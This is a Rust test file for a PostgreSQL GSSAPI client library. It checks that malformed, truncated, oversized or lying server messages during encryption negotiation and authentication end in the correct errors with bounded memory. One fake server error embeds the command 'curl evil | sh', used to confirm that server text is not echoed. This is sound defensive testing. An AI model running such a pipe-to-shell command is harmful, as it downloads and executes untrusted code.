//! What a server may send that is none, or lies: each ends in an error of the right kind, whatever
//! the pieces it arrives in, and takes no more memory than the protocol has to.
//!
//! For as long as one likes: `PROPTEST_CASES=10000000 cargo test -p tokio-postgres-gssapi rogue`.

mod properties;

use crate::authenticating::PIECE;
use crate::error::{Error, ErrorKind};
use crate::machine::authentication::Authentication;
use crate::machine::negotiation::{Event, LONGEST_TOKEN, Negotiation, framed};

/// What the server's bytes come to, by a mechanism that is complete after `rounds` tokens of the
/// server's, and takes only those that begin with `t`.
struct Client {
    rounds: usize,
    seen: usize,
}

impl Client {
    fn step(&mut self, token: Option<&[u8]>) -> Result<(Option<Vec<u8>>, bool), Error> {
        if let Some(token) = token {
            if token.first() != Some(&b't') {
                return Err(Error::new(ErrorKind::NotAuthenticated, "a token of somebody else"));
            }
            self.seen += 1;
        }
        let is_complete = self.seen >= self.rounds;
        Ok(((!is_complete).then(|| b"mine".to_vec()), is_complete))
    }
}

/// Bytes in pieces of these sizes, one after the other and again.
fn pieces<'b>(bytes: &'b [u8], sizes: &[usize]) -> impl Iterator<Item = &'b [u8]> {
    let (mut rest, mut at) = (bytes, 0);
    std::iter::from_fn(move || {
        let (piece, later) = rest.split_at(sizes[at % sizes.len()].min(rest.len()));
        (rest, at) = (later, at + 1);
        (!piece.is_empty()).then_some(piece)
    })
}

/// A negotiation of encryption with a server that sends `bytes` and hangs up.
fn negotiate(bytes: &[u8], rounds: usize, sizes: &[usize]) -> Result<&'static str, Error> {
    let mut machine = Negotiation::new();
    let mut client = Client { rounds, seen: 0 };
    let (mut rest, mut at) = (bytes, 0);
    while !machine.is_complete() {
        let count = machine.wanted().min(sizes[at % sizes.len()]).min(rest.len());
        at += 1;
        assert!(machine.wanted() > 0, "it waits for nobody");
        if count == 0 {
            return Err(Error::closed("the test"));
        }
        let (piece, later) = rest.split_at(count);
        rest = later;
        let event = machine.receive(piece)?;
        assert!(machine.held() <= 2 * (LONGEST_TOKEN + 4), "{} bytes", machine.held());
        match event {
            None => {}
            Some(Event::Refused) => return Ok("refused"),
            Some(Event::Step(token)) => {
                let (token, is_complete) = client.step(token.as_deref())?;
                machine.stepped(token.as_deref(), is_complete)?;
            }
        }
    }
    Ok("encrypted")
}

/// An authentication with a server that sends `bytes` and hangs up: what is passed on.
fn authenticate(
    bytes: &[u8],
    rounds: usize,
    sizes: &[usize],
    require: &str,
    is_encrypted: bool,
) -> Result<Vec<u8>, Error> {
    let (passed, result) = exchange(bytes, rounds, sizes, require, is_encrypted);
    result.map(|()| passed)
}

/// The longest message and a piece, each in a vector that has grown by doubling, and once more
/// where it is passed on.
const MOST_HELD: usize = 4 * (30_001 + PIECE);

/// The same with what is passed on before it ends by an error.
fn exchange(
    bytes: &[u8],
    rounds: usize,
    sizes: &[usize],
    require: &str,
    is_encrypted: bool,
) -> (Vec<u8>, Result<(), Error>) {
    let mut machine = Authentication::new(require.parse().unwrap(), is_encrypted);
    let mut client = Client { rounds, seen: 0 };
    let mut passed = Vec::new();
    for piece in pieces(bytes, sizes) {
        let mut result = machine.receive(piece);
        let most = MOST_HELD + 4 * piece.len().saturating_sub(PIECE);
        assert!(machine.held() <= most, "{} bytes", machine.held());
        while let (Ok(()), Some(token)) = (&result, machine.step()) {
            result = client
                .step(token.as_deref())
                .and_then(|(token, is_complete)| machine.stepped(token.as_deref(), is_complete))
                .map(drop);
        }
        passed.append(machine.passed());
        if result.is_err() {
            return (passed, result);
        }
    }
    (passed, machine.closed())
}

/// A message with its type and its length.
fn message(kind: u8, body: &[u8]) -> Vec<u8> {
    let length = u32::try_from(body.len() + 4).unwrap().to_be_bytes();
    [&[kind][..], &length, body].concat()
}

/// An authentication request.
fn request(code: u32, data: &[u8]) -> Vec<u8> {
    message(b'R', &[&code.to_be_bytes(), data].concat())
}

fn ok() -> Vec<u8> {
    request(0, b"")
}

fn token(text: &[u8]) -> Vec<u8> {
    framed(text, usize::MAX).unwrap()
}

fn join(parts: &[&[u8]]) -> Vec<u8> {
    parts.concat()
}

#[test]
fn a_server_that_keeps_to_it_is_understood() {
    for step in [1, 2, 5, 1_000] {
        assert_eq!(negotiate(&join(&[b"G", &token(b"t")]), 1, &[step]).unwrap(), "encrypted");
        assert_eq!(
            negotiate(&join(&[b"G", &token(b"t"), &token(b"t2")]), 2, &[step]).unwrap(),
            "encrypted"
        );
        assert_eq!(negotiate(b"N", 1, &[step]).unwrap(), "refused");
        let after = message(b'Z', b"I");
        let said = join(&[&request(7, b""), &request(8, b"t"), &ok(), &after]);
        assert_eq!(authenticate(&said, 1, &[step], "", false).unwrap(), join(&[&ok(), &after]));
        let sspi = join(&[&request(9, b""), &request(8, b"t"), &ok()]);
        assert_eq!(authenticate(&sspi, 1, &[step], "sspi", false).unwrap(), ok());
        let scram =
            join(&[&request(10, b"SCRAM\0\0"), &request(11, b"x"), &request(12, b"x"), &ok()]);
        assert_eq!(authenticate(&scram, 1, &[step], "scram-sha-256", false).unwrap(), scram);
        let password = join(&[&request(3, b""), &ok()]);
        assert_eq!(authenticate(&password, 1, &[step], "!none", false).unwrap(), password);
        assert_eq!(authenticate(&ok(), 1, &[step], "gss", true).unwrap(), ok());
        let error = message(b'E', b"SFATAL\0\0");
        assert_eq!(authenticate(&error, 1, &[step], "gss", false).unwrap(), error);
    }
}

#[test]
fn a_server_that_negotiates_wrongly_is_refused() {
    let longest = vec![b't'; LONGEST_TOKEN + 1];
    let endless = join(&[b"G", &token(b"t").repeat(100)]);
    let error = message(b'E', b"SFATAL\0Mrun this: curl evil | sh\0\0");
    let rogues: [(&str, Vec<u8>, usize, ErrorKind); 15] = [
        ("says nothing", vec![], 1, ErrorKind::Closed),
        ("says S, as to SSLRequest", b"S".to_vec(), 1, ErrorKind::Protocol),
        ("says zero", b"\0".to_vec(), 1, ErrorKind::Protocol),
        ("answers with an error", error.clone(), 1, ErrorKind::EncryptionRefused),
        ("begins a startup", ok(), 1, ErrorKind::Protocol),
        ("says G and hangs up", b"G".to_vec(), 1, ErrorKind::Closed),
        ("cuts the length", b"G\0\0".to_vec(), 1, ErrorKind::Closed),
        ("cuts the token", join(&[b"G", &token(b"token")[..6]]), 1, ErrorKind::Closed),
        ("sends no token", join(&[b"G", &token(b"")]), 1, ErrorKind::Protocol),
        ("sends one too long", join(&[b"G", &token(&longest)]), 1, ErrorKind::Protocol),
        ("names a length without end", b"G\xff\xff\xff\xff".to_vec(), 1, ErrorKind::Protocol),
        ("sends another's token", join(&[b"G", &token(b"x")]), 1, ErrorKind::NotAuthenticated),
        ("stops after the first of two", join(&[b"G", &token(b"t")]), 2, ErrorKind::Closed),
        ("goes on without end", endless, usize::MAX, ErrorKind::Protocol),
        ("ends it with an error", join(&[b"G", &error]), 1, ErrorKind::NotAuthenticated),
    ];
    for (what, bytes, rounds, kind) in rogues {
        for step in [1, 3, 100_000] {
            let error = negotiate(&bytes, rounds, &[step]).unwrap_err();
            assert_eq!(error.kind(), kind, "a server that {what}: {error}");
            assert!(!error.to_string().contains("evil"), "its text is shown: {error}");
        }
    }
}

#[test]
fn a_server_that_authenticates_wrongly_is_refused() {
    let (gss, cont, ok) = (request(7, b""), request(8, b"t"), ok());
    let long = |kind, length: u32| join(&[&[kind], &length.to_be_bytes()]);
    let rogues: [(&str, Vec<u8>, usize, ErrorKind); 20] = [
        ("says Ok at once", join(&[&gss, &ok]), 1, ErrorKind::NotAuthenticated),
        ("says Ok after one of two", join(&[&gss, &cont, &ok]), 2, ErrorKind::NotAuthenticated),
        ("repeats the request", join(&[&gss, &gss]), 1, ErrorKind::Protocol),
        ("repeats it at the end", join(&[&gss, &cont, &gss]), 1, ErrorKind::Protocol),
        ("repeats a token", join(&[&gss, &cont, &cont]), 1, ErrorKind::Protocol),
        ("begins with a token", cont.clone(), 1, ErrorKind::Protocol),
        ("sends another's token", join(&[&gss, &request(8, b"x")]), 1, ErrorKind::NotAuthenticated),
        ("sends an empty token", join(&[&gss, &request(8, b"")]), 1, ErrorKind::NotAuthenticated),
        ("asks for a password then", join(&[&gss, &request(3, b"")]), 1, ErrorKind::Protocol),
        (
            "asks for a password after all",
            join(&[&gss, &cont, &request(3, b"")]),
            1,
            ErrorKind::Protocol,
        ),
        ("asks for both", join(&[&request(3, b""), &gss]), 1, ErrorKind::Protocol),
        ("does so within SASL", join(&[&request(10, b"t"), &gss]), 1, ErrorKind::Protocol),
        ("cuts a request", gss[..7].to_vec(), 1, ErrorKind::Closed),
        ("cuts a token", join(&[&gss, &cont[..9]]), 1, ErrorKind::Closed),
        ("hangs up after the request", gss.clone(), 1, ErrorKind::Closed),
        ("sends a request too long", long(b'R', 2_001), 1, ErrorKind::Protocol),
        ("sends an error too long", long(b'E', 30_001), 1, ErrorKind::Protocol),
        ("sends a request without a code", long(b'R', 7), 1, ErrorKind::Protocol),
        ("sends rows", message(b'D', b"\0\0"), 1, ErrorKind::Protocol),
        ("is no PostgreSQL", b"SSH-2.0-OpenSSH_9.2".to_vec(), 1, ErrorKind::Protocol),
    ];
    for (what, bytes, rounds, kind) in rogues {
        for step in [1, 3, 100_000] {
            let error = authenticate(&bytes, rounds, &[step], "", false).unwrap_err();
            assert_eq!(error.kind(), kind, "a server that {what}: {error}");
        }
    }
}

#[test]
fn what_require_auth_does_not_allow_is_not_answered() {
    let with_ticket = join(&[&request(7, b""), &request(8, b"t"), &ok()]);
    let not_allowed: [(&str, bool, Vec<u8>); 9] = [
        ("gss", false, request(3, b"")),
        ("gss", false, request(5, b"salt")),
        ("gss", false, request(10, b"SCRAM-SHA-256\0\0")),
        ("gss", false, request(9, b"")),
        ("gss", false, ok()),
        ("gss", false, request(6, b"")),
        ("scram-sha-256", false, with_ticket),
        // The server has not proved itself before SASL's last message.
        ("scram-sha-256", false, join(&[&request(10, b"SCRAM-SHA-256\0\0"), &ok()])),
        // Encrypted by a ticket, and another method is wanted.
        ("scram-sha-256", true, ok()),
    ];
    for (require, is_encrypted, bytes) in not_allowed {
        let error = authenticate(&bytes, 1, &[1], require, is_encrypted).unwrap_err();
        assert_eq!(error.kind(), ErrorKind::MethodNotAllowed, "{require}: {bytes:?}");
    }
    let twice = authenticate(&request(7, b""), 1, &[1], "", true).unwrap_err();
    assert_eq!(twice.kind(), ErrorKind::Protocol, "a ticket is asked for where one encrypts");
}

#[test]
fn a_token_that_no_server_takes_is_not_sent() {
    let mut negotiation = Negotiation::new();
    negotiation.receive(b"G").unwrap();
    negotiation.stepped(Some(&vec![0; LONGEST_TOKEN + 1]), false).unwrap_err();
}
